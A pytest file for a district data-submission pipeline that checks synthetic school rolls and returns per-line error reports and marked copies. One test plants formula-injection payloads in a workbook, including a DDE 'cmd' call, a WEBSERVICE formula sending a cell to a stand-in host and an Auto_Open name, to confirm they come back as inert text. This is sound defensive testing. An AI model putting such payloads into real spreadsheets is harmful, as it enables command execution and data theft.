"""The sender's report: every named line with its words, no value outside the restricted zone."""

from __future__ import annotations

import re
import stat
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
import xlsxwriter

from jobs import declare
from jobs import settings as site_settings
from jobs.declare import Contract, shapes, words
from jobs.declare.template import write_template
from jobs.ingest import clean, raw
from jobs.judging import identifiers, judge
from jobs.lake import deliveries, tables
from jobs.replies import marked_copy, report, report_files
from jobs.settings import Settings, UserError

if TYPE_CHECKING:
    from pyspark.sql import SparkSession

ROLL_HEADER = "学籍号,姓名,性别,出生日期,学校标识码,年级,班级,学籍状态,是否随迁子女"


def number(serial: int, kind: str = "G") -> str:
    """A pupil number that checks."""
    body = f"99435520150101{serial:03d}"
    check = identifiers.CHECK[sum(int(d) * w for d, w in zip(body, identifiers.WEIGHTS, strict=True)) % 11]
    return kind + body + check


def roll(count: int) -> list[list[str]]:
    return [
        [
            number(i),
            f"赵钱孙李{i}",
            "男",
            "20150307",
            "2111000001",
            "04",
            f"勤学{i % 3}班",
            "1",
            "否",
        ]
        for i in range(1, count + 1)
    ]


def land(settings: Settings, feed: str, sender: str, name: str, data: bytes, day: str = "2025-09-20") -> Path:
    source = settings.home / "outbox" / name
    source.parent.mkdir(exist_ok=True)
    source.write_bytes(data)
    return deliveries.land(settings, source, feed, sender, date.fromisoformat(day))


def take(settings: Settings, spark: SparkSession, feed: str) -> None:
    raw.write_raw(settings, "2025-09-20.1", feed)
    clean.clean_rows(settings, spark, "2025-09-20.1", feed)


def text_of(file: Path) -> str:
    if file.suffix == ".html":
        return file.read_text(encoding="utf-8")
    book = openpyxl.load_workbook(file)
    return "\n".join(
        str(cell) for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row if cell
    )


def test_a_roll_is_answered_line_by_line_and_no_value_leaves(settings: Settings, spark: SparkSession) -> None:
    rows = roll(60)
    rows[3][0] = rows[3][0][:-1] + ("0" if rows[3][0][-1] != "0" else "1")
    rows[3][3] = "昨天"
    rows[7][6] = ""
    rows[1][2] = "7"
    data = "\n".join([ROLL_HEADER, *(",".join(row) for row in rows)]).encode("gb18030")
    land(settings, "enrollment", "110101", "名册_2025-2026-1.csv", data)
    take(settings, spark, "enrollment")
    (receipt,) = report.receipts_of(settings, "110101")
    assert (receipt["accepted_count"], receipt["flagged_count"], receipt["refused_count"]) == (58, 1, 2)

    made = report.gather(settings, report.find_receipt(settings, receipt["receipt_id"][:6]))
    assert [(p.line, p.severity, p.heading, p.rule) for p in made.problems] == [
        (5, "退回", "出生日期", "type"),
        (5, "退回", "学籍号", "check_digit"),
        (9, "退回", "班级", "required"),
        (3, "存疑", "性别", "unmapped_code"),
    ]
    files = report_files.write(settings, made)
    for kind in ("xlsx", "html"):
        told = text_of(files[kind])
        for word in ("名册_2025-2026-1.csv", "东城区 110101", "部分退回", "末位校验码", "1 男", "58"):
            assert word in told, (kind, word)
        for row in rows:
            for value in (row[0], row[1], row[3], row[4], row[6] or "昨天"):
                assert value not in told, (kind, value)
    assert not [f for f in files["xlsx"].parent.iterdir() if f.name.startswith(".")]

    first = openpyxl.load_workbook(files["marked"]).worksheets[0]
    for told in (*(text_of(files[kind]) for kind in ("xlsx", "html")), str(next(iter(first.values)))):
        assert "合成数据：" in told, "each says that the city is made up"
    real = replace(settings, is_synthetic=False)
    others = report_files.write(real, report.gather(real, receipt))
    assert not [kind for kind, file in others.items() if "合成" in text_of(file)]
    report_files.write(settings, made)

    marked = files["marked"]
    for private in (marked.parent, marked.parent.parent):
        assert stat.S_IMODE(private.stat().st_mode) == 0o700
        assert settings.restricted in private.parents
    assert {stat.S_IMODE(file.stat().st_mode) for file in files.values()} == {0o600}
    listed, sheet = openpyxl.load_workbook(marked)
    assert [[c.value for c in row[:2]] for row in listed.iter_rows(min_row=2)] == [
        ["退回", "报送数据!D5"],
        ["退回", "报送数据!A5"],
        ["退回", "报送数据!G9"],
        ["存疑", "报送数据!C3"],
    ]
    assert [one.freeze_panes for one in (listed, sheet)] == ["A2", "A2"]
    commented = {c.coordinate: c for line in sheet.iter_rows() for c in line if c.comment}
    assert sorted(commented) == ["A5", "C3", "D5", "G9"]
    assert commented["D5"].value == "昨天"
    assert "日期" in commented["D5"].comment.text
    assert commented["A5"].fill.fgColor.rgb != commented["C3"].fill.fgColor.rgb
    assert [c.value for c in sheet[2]] == [*rows[0], None]
    # A filter on the last column shows the rows to mend alone.
    assert sheet.auto_filter.ref == "A1:J61"
    assert [sheet.cell(row, 10).value for row in (1, 3, 5, 9)] == ["处理标注", "存疑", "退回", "退回"]


def test_a_workbook_comes_back_as_text_with_comments(settings: Settings, spark: SparkSession) -> None:
    """Nothing of the sender's file is live in the copy: its cells are text where they stood."""
    source = settings.home / "x.xlsx"
    book = xlsxwriter.Workbook(str(source))
    sheet = book.add_worksheet("成绩")
    sheet.merge_range(0, 0, 0, 5, "2025年体质健康测试成绩")
    headings = ["年级编号", "班级编号", "学籍号", "姓名", "性别", "身高（cm）"]
    sheet.write_row(1, 0, headings)
    calls = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example/?"&A2)', "@SUM(1+1)", "http://x.example"]
    for i in range(30):
        height = 1.62 if i == 4 else 131.5
        sheet.write_row(2 + i, 0, [13, "01", number(i + 1), f"姓名{i}", "1", height])
        if i < len(calls):
            sheet.write_string(2 + i, 3, calls[i])
    sheet.write_formula(6, 3, '=WEBSERVICE("http://x.example/?"&A2)', None, "=1+1")
    book.define_name("Auto_Open", "=成绩!$A$1")
    book.close()
    land(settings, "physical_fitness", "2111000001", "成绩.xlsx", source.read_bytes(), "2025-10-20")
    take(settings, spark, "physical_fitness")
    (receipt,) = report.receipts_of(settings)
    made = report.gather(settings, receipt)
    problem = made.problems[0]
    assert (problem.sheet, problem.line, problem.heading, problem.rule) == (
        "成绩",
        7,
        "身高（cm）",
        "impossible",
    )
    assert "80 至 250 cm" in problem.do
    assert "不是米" in problem.do
    files = report_files.write(settings, made)
    assert "1.62" not in text_of(files["xlsx"]) + text_of(files["html"])
    copy = openpyxl.load_workbook(files["marked"])["成绩"]
    assert copy.freeze_panes == "A3"
    assert copy["F7"].comment is not None
    assert copy["F7"].value == "1.62"
    assert [copy.cell(3 + i, 4).value for i in range(5)] == [*calls, "=1+1"]
    assert {cell.data_type for row in copy.iter_rows() for cell in row if cell.value} == {"s"}
    assert {cell.number_format for row in copy.iter_rows(min_row=2) for cell in row if cell.value} == {"@"}
    assert live_parts(files["marked"]) == []
    assert live_parts(source) == ["formula"]

    # What the sender corrects in the copy and sends back is taken: the list of marks stands in nobody's way.
    back: Any = openpyxl.load_workbook(files["marked"])
    back["成绩"]["F7"] = "162"
    back.save(source)
    land(settings, "physical_fitness", "2111000001", "更正.xlsx", source.read_bytes(), "2025-10-21")
    take(settings, spark, "physical_fitness")
    again = report.receipts_of(settings)[0]
    assert (again["outcome"], again["accepted_count"], again["refused_count"]) == ("accepted", 30, 0)


def live_parts(workbook: Path) -> list[str]:
    """What of a workbook could act when it is opened: formulas, links outside, macros, connections."""
    found = set()
    with zipfile.ZipFile(workbook) as parts:
        for name in parts.namelist():
            found |= {part for part in ("externalLink", "vba", "connection", "embedding") if part in name}
            text = parts.read(name)
            if name.startswith("xl/worksheets/sheet"):
                found |= {"formula"} if b"<f>" in text or b"<f " in text else set()
            found |= {"link"} if b'TargetMode="External"' in text else set()
    return sorted(found)


@pytest.mark.parametrize("bound", ["MOST_CELLS", "MOST_ROWS"])
def test_of_a_file_beyond_the_bounds_the_marked_lines_come_back(
    settings: Settings, spark: SparkSession, monkeypatch: pytest.MonkeyPatch, bound: str
) -> None:
    lines = ["区,出生年,出生人数", *(f"东城区,{2000 + i},{'很多' if i in (3, 17) else i}" for i in range(20))]
    land(settings, "place_demand", "110000", "births.csv", "\n".join(lines).encode())
    take(settings, spark, "place_demand")
    (receipt,) = report.receipts_of(settings)
    monkeypatch.setattr(marked_copy, bound, 19)
    listed, sheet = openpyxl.load_workbook(
        report_files.write(settings, report.gather(settings, receipt))["marked"]
    )
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["区", "出生年", "出生人数", "处理标注"],
        ["东城区", "2003", "很多", "退回"],
        ["东城区", "2017", "很多", "退回"],
    ]
    assert [(row[1].value, row[4].value) for row in listed.iter_rows(min_row=2)] == [
        ("报送数据!C2", 5),
        ("报送数据!C3", 19),
    ]


def test_each_sheet_is_marked_by_its_own_columns(settings: Settings, spark: SparkSession) -> None:
    source = settings.home / "births.xlsx"
    book = xlsxwriter.Workbook(str(source))
    for name, order in (("甲", [0, 1, 2]), ("乙", [2, 0, 1])):
        sheet = book.add_worksheet(name)
        year = 2000 if name == "甲" else 2060
        rows = [["区", "出生年", "出生人数"], *([["东城区", year + i, i] for i in range(40)])]
        rows[3][2] = "?"
        for line, row in enumerate(rows):
            sheet.write_row(line, 0, [row[i] for i in order])
    book.close()
    land(settings, "place_demand", "110000", "births.xlsx", source.read_bytes(), "2025-01-10")
    take(settings, spark, "place_demand")
    (receipt,) = report.receipts_of(settings)
    made = report.gather(settings, receipt)
    assert {(p.sheet, p.line, p.position) for p in made.problems} == {("甲", 4, 2), ("乙", 4, 0)}
    marked = openpyxl.load_workbook(report_files.write(settings, made)["marked"])
    assert marked.sheetnames == ["标注清单", "甲", "乙"]
    assert [marked["甲"]["C4"].value, marked["乙"]["A4"].value] == ["?", "?"]
    for name, cell in (("甲", "C4"), ("乙", "A4")):
        commented = [c.coordinate for line in marked[name].iter_rows() for c in line if c.comment]
        assert commented == [cell]


def test_a_held_delivery_says_why_and_the_way_out(settings: Settings, spark: SparkSession) -> None:
    lines = ["区,出生年,出生人数", *(f"东城区,{2000 + i},{'很多' if i < 5 else i}" for i in range(20))]
    data = "\n".join(lines).encode()
    land(settings, "place_demand", "110000", "births.csv", data)
    land(settings, "place_demand", "110000", "other.csv", b"a,b\n1,2\n")
    template = settings.home / "template.xlsx"
    write_template(declare.load()["catchment"], template)
    land(settings, "place_demand", "110101", "模板.xlsx", template.read_bytes())
    take(settings, spark, "place_demand")
    by_name = {r["file_name"]: report.gather(settings, r) for r in report.receipts_of(settings)}
    facts = dict(by_name["births.csv"].facts())
    assert facts["处理结果"] == "整份退回"
    assert "暂缓" in facts["下一步"]
    assert facts["整批原因"].startswith("退回 5 行, 占 25.0%")
    english = report.gather(replace(settings, language="en"), by_name["births.csv"].receipt)
    facts_en = dict(english.facts())
    assert facts_en["整批原因 why"].startswith("5 lines are refused, 25.0% of all; at most")
    assert "退回 5 行, 占 25.0%" in facts_en["整批原因 why"]
    files = report_files.write(settings, english)
    for kind in ("xlsx", "html", "marked"):
        for told in ("请只填整数", "Enter a whole number only", "退回 refused", "如何更正 what to do"):
            assert told in text_of(files[kind]), (kind, told)
    assert "重新报送整个文件" in facts["下一步"]
    assert len(by_name["births.csv"].problems) == 5
    facts = dict(by_name["模板.xlsx"].facts())
    assert (facts["处理结果"], facts["合格行"]) == ("整份退回", "0")
    assert "只有模板示例行" in facts["整批原因"]
    assert {p.severity for p in by_name["模板.xlsx"].problems} == {"未计入"}
    facts = dict(by_name["other.csv"].facts())
    assert facts["处理结果"] == "整份退回"
    assert facts["数据表"] == "未能识别"
    files = report_files.write(settings, by_name["other.csv"])
    assert set(files) == {"xlsx", "html"}
    assert openpyxl.load_workbook(files["xlsx"]).sheetnames == ["回执"], "no sheet without a line"


@pytest.mark.parametrize(("site", "language"), [("us", "en"), ("nyc", "en"), ("beijing", "zh")])
def test_a_site_reads_reasons_in_its_language(site: str, language: str, tmp_path: Path) -> None:
    assert site_settings.load(site, home=tmp_path).language == language


def test_a_receipt_is_found_by_how_it_begins(settings: Settings) -> None:
    rows = [{"receipt_id": f"{i:016x}", "sender_code": "110101"} for i in (0xABC0, 0xABC1)]
    tables.append_rows(settings, "ops__receipt", rows, "t", "r")
    assert report.find_receipt(settings, "000000000000ABC1")["receipt_id"].endswith("abc1")
    with pytest.raises(UserError, match="2 receipts begin"):
        report.find_receipt(settings, "0000")
    with pytest.raises(UserError, match="no receipt"):
        report.find_receipt(settings, "ffff")


def _rules_of(contract: Contract) -> set[tuple[str, str]]:
    """Every reason that parsing can give, read off the conditions it builds."""
    refused, flags = judge._judgements(contract, {c.name for c in contract.columns if c.unit})
    return {(*reason.split(":"),) for _, reason in [*refused, *flags]}  # type: ignore[misc]


@pytest.mark.parametrize("dataset", sorted(declare.load()))
def test_every_rule_is_put_into_words(dataset: str) -> None:
    """In both languages, with a way out; a refused row is never told to leave things as they are."""
    contract = declare.load()[dataset]
    ours = {column.name for column in contract.columns} | {contract.person_key} | declare.load().keys()
    ours |= {column.codes for column in contract.columns}
    for column_name, rule in [*_rules_of(contract), (contract.key[0], "repeated_key")]:
        where = f"{dataset}.{column_name}: {rule}"
        assert words.has_words(contract, column_name, rule), f"{where} has no words"
        verdicts = {verdict for *own, verdict in contract.row_rules() if own == [column_name, rule]}
        for is_refused in (verdict == "refuse" for verdict in verdicts or {"flag"}):
            said = words.explain(contract, column_name, rule, is_refused=is_refused)
            for text in (said.asked, said.wrong, said.do):
                assert re.search("[\u4e00-\u9fff]", text.zh), where
                assert text.en, where
                for told in (text.zh, text.en):
                    assert raw_words(told, ours) == [], where
                    assert not re.search(r"  |{|}", told), where
            assert re.search("请|不必", said.do.zh), where
            if is_refused:
                assert not re.search("不必改动|true, leave", said.do.told("en")), where


def raw_words(told: str, ours: set[str | None]) -> list[str]:
    """What no sender should read: a pattern, a name of ours with an underline, a code list by its code."""
    names = re.findall(r"\b[a-z]+(?:_[a-z0-9]+)+\b", told)
    listed = [name for name in re.findall("代码表“([a-z]+)”", told) if name in ours]
    return [*re.findall(r"\[[^\]]*-[^\]]*\]|\\\\d|\{\d|\|", told), *names, *listed]


def test_what_no_sender_should_read_is_found() -> None:
    ours: set[str | None] = {"sex"}
    told = ["请按“YH-[0-9]{8}”核对", "规则 birth_date_differs", "见代码表“sex”", "(01|02)"]
    assert [bool(raw_words(one, ours)) for one in told] == [True] * 4
    assert raw_words("请按“10位数字”核对; 见代码表“性别”", ours) == []


@pytest.mark.parametrize("dataset", ["test_result", "hazard_register"])
def test_a_rule_without_words_says_whom_to_ask(dataset: str) -> None:
    contract = declare.load()[dataset]
    said = words.explain(contract, contract.columns[0].name, "of_another_version", is_refused=True)
    assert not words.has_words(contract, contract.columns[0].name, "of_another_version")
    assert "数据管理单位" in said.do.zh
    assert "of_another_version" not in str(said)


@pytest.mark.parametrize(
    ("pattern", "told", "told_en"),
    [
        ("[GJL][0-9]{17}[0-9X]", "1位 G/J/L, 17位数字, 1位数字或X", "1 of G/J/L, 17 digits, 1 digit or X"),
        ("[0-9]{10}", "10位数字", "10 digits"),
        ("YH-[0-9]{8}", "“YH-”, 8位数字", "“YH-”, 8 digits"),
        (
            "[12][0-9]{3}(0[1-9]|1[0-2])",
            "1位 1/2, 3位数字, 月份 (01至12)",
            "1 of 1/2, 3 digits, the month (01 to 12)",
        ),
        ("[A-Z]{2,4}", "2至4位大写字母", "2 to 4 capital letters"),
        ("(AB|CD)", "“AB” 或 “CD”", "“AB” or “CD”"),
        ("(?=x)y", "报送模板“填写说明”中的格式", "the form shown in the template's guide"),
        ("[^a]", "报送模板“填写说明”中的格式", "the form shown in the template's guide"),
    ],
)
def test_a_pattern_is_told_in_words(pattern: str, told: str, told_en: str) -> None:
    assert shapes.pattern_words(pattern, "zh") == told
    assert shapes.pattern_words(pattern, "en") == told_en


def test_bounds_in_words_follow_the_declaration() -> None:
    contract = declare.load()["test_result"]
    column: Any = contract.column("weight_kg")
    said = words.explain(contract, "weight_kg", "impossible", is_refused=True)
    low, high = column.refuse_outside
    assert f"{low:g} 至 {high:g} kg" in said.asked.zh


def test_a_template_names_no_code_and_no_pattern(tmp_path: Path) -> None:
    """What a sender fills in reads like what the report says."""
    for dataset, contract in declare.load().items():
        write_template(contract, tmp_path / "t.xlsx")
        book = openpyxl.load_workbook(tmp_path / "t.xlsx")
        lists = {column.codes for column in contract.columns if column.codes}
        guide = {str(cell.value) for row in book["填写说明"].iter_rows() for cell in row}
        assert not lists & (guide | {str(cell.value) for cell in book["代码表"][1]}), dataset
        for text in guide:
            assert not re.search(r"\[[^\]]*-[^\]]*\]", text), dataset
